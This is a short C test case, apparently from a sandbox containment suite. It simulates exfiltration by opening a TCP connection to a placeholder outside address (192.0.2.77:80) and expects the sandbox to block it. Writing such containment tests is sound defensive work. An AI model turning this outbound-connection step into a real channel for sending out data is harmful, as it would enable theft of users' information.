/* TCP to an address. */
#include "../attack.h"

#include "dial.h"

ATTACK(NETWORK, "attempts", .gain = "a server on the internet, to send to what was found",
       .source = "exfiltration", .event = "network.blocked", .with = "address=192.0.2.77",
       .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
{
	struct sockaddr_in a = at4("192.0.2.77", 80);

	return attempt(&a, sizeof(a));
}
